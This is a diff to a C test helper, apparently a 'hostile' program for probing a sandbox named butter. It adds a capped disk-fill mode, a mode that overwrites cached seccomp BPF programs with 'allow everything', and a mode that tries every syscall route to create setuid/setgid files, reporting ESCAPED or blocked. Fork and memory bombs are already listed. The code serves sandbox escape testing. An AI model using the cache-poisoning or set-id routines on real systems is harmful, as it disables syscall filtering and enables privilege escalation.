@@ -18,8 +18,12 @@
  *   ignore-term            ignore SIGTERM, then sleep
  *   forkbomb               fork until it fails; prints how many
  *   membomb                allocate and touch memory until killed
- *   fill DIR               write DIR/fill until it fails; prints the bytes and the errno
+ *   fill DIR [MIB]         write DIR/fill until it fails (or MIB MiB are written); prints
+ *                          the bytes and the errno (or "cap")
  *   mounts                 the mount points this process sees, one per line
+ *   poison-cache DIR       rewrite every compiled seccomp program cached in DIR (butter 0.1's
+ *                          seccomp-*.bpf files) to "allow everything"
+ *   setuid DIR             make setuid/setgid files and directories in DIR, every way there is
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -340,7 +344,8 @@ static int membomb(void) {
     }
 }
 
-static int fill(const char* dir) {
+static int fill(const char* dir, const char* cap_mib) {
+    unsigned long long cap = cap_mib ? strtoull(cap_mib, NULL, 10) << 20 : 0;
     char path[4096];
     snprintf(path, sizeof path, "%s/fill", dir);
     int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
@@ -359,7 +364,106 @@ static int fill(const char* dir) {
             return 0;
         }
         total += (unsigned long long)n;
+        if (cap && total >= cap) {
+            printf("fill: %llu bytes, then cap\n", total);
+            return 0;
+        }
     }
+}
+
+/* butter 0.1's seccomp cache: a 32-byte header (magic, key hash, instruction count, flags,
+ * errno, reserved), the instructions, the key. Each instruction becomes "return ALLOW". */
+static int poison_cache(const char* dir) {
+    char cmd[4200];
+    snprintf(cmd, sizeof cmd, "ls %s/seccomp-*.bpf 2>/dev/null", dir);
+    FILE* ls = popen(cmd, "r");
+    int rewritten = 0;
+    char path[4096];
+    while (ls && fgets(path, sizeof path, ls)) {
+        path[strcspn(path, "\n")] = 0;
+        int fd = open(path, O_RDWR | O_CLOEXEC);
+        if (fd < 0) {
+            report("open cached program", -1, errno);
+            continue;
+        }
+        unsigned char hdr[32];
+        if (pread(fd, hdr, sizeof hdr, 0) != (ssize_t)sizeof hdr) continue;
+        uint32_t insns;
+        memcpy(&insns, hdr + 16, sizeof insns);
+        for (uint32_t i = 0; i < insns; ++i) {
+            /* BPF_RET | BPF_K, SECCOMP_RET_ALLOW */
+            unsigned char allow[8] = {0x06, 0, 0, 0, 0, 0, 0xff, 0x7f};
+            if (pwrite(fd, allow, sizeof allow, 32 + 8 * (off_t)i) != (ssize_t)sizeof allow) {
+                report("rewrite cached program", -1, errno);
+                break;
+            }
+        }
+        close(fd);
+        ++rewritten;
+    }
+    if (ls) pclose(ls);
+    printf("poison-cache: %d programs rewritten\n", rewritten);
+    return 0;
+}
+
+/* One attempt at a set-id file: the call's result, then what the file really got. */
+static void setid_result(const char* what, const char* path, long rc, int err) {
+    struct stat st;
+    if (rc < 0) {
+        report(what, rc, err);
+    } else if (stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) {
+        printf("%s: ESCAPED (mode %o, owner %d)\n", what, st.st_mode & 07777, (int)st.st_uid);
+        escaped = 1;
+    } else {
+        printf("%s: blocked (no set-id bit)\n", what);
+    }
+}
+
+static void attack_setuid(const char* dir, const char* self) {
+    char path[4096];
+#define SETID(name, call)                                      \
+    do {                                                       \
+        snprintf(path, sizeof path, "%s/%s", dir, name);       \
+        errno = 0;                                             \
+        long rc_ = (long)(call);                               \
+        setid_result(name, path, rc_ < 0 ? rc_ : 0, errno);    \
+    } while (0)
+    /* A copy of this program, then chmod 6755 (cp + chmod u+s). */
+    snprintf(path, sizeof path, "%s/suid-chmod", dir);
+    {
+        char cmd[8400];
+        snprintf(cmd, sizeof cmd, "cp %s %s", self, path);
+        if (system(cmd) != 0) printf("copy: failed\n");
+    }
+    SETID("suid-chmod", chmod(path, 06755));
+    SETID("suid-fchmodat", (close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755)),
+                            fchmodat(AT_FDCWD, path, 04755, 0)));
+    SETID("suid-fchmod", ({
+              int fd_ = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
+              long r_ = fd_ < 0 ? -1 : fchmod(fd_, 02755);
+              if (fd_ >= 0) close(fd_);
+              r_;
+          }));
+    SETID("suid-open", ({
+              int fd_ = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 04755);
+              if (fd_ >= 0) close(fd_);
+              fd_;
+          }));
+    SETID("suid-openat", ({
+              int fd_ = (int)syscall(SYS_openat, AT_FDCWD, path,
+                                     O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
+              if (fd_ >= 0) close(fd_);
+              fd_;
+          }));
+    SETID("suid-creat", ({
+              int fd_ = creat(path, 04755);
+              if (fd_ >= 0) close(fd_);
+              fd_;
+          }));
+    SETID("suid-mknod", mknod(path, S_IFREG | 04755, 0));
+    SETID("sgid-mkdir", mkdir(path, 02755));
+    SETID("sgid-mkdirat", mkdirat(AT_FDCWD, path, 02775));
+#undef SETID
 }
 
 static int mounts(void) {
@@ -402,8 +506,10 @@ int main(int argc, char** argv) {
         for (;;) pause();
     } else if (!strcmp(cmd, "forkbomb")) return forkbomb();
     else if (!strcmp(cmd, "membomb")) return membomb();
-    else if (!strcmp(cmd, "fill") && arg) return fill(arg);
+    else if (!strcmp(cmd, "fill") && arg) return fill(arg, argc > 3 ? argv[3] : NULL);
     else if (!strcmp(cmd, "mounts")) return mounts();
+    else if (!strcmp(cmd, "poison-cache") && arg) return poison_cache(arg);
+    else if (!strcmp(cmd, "setuid") && arg) attack_setuid(arg, argv[0]);
     else {
         fprintf(stderr, "hostile: unknown attack '%s'\n", cmd);
         return 2;
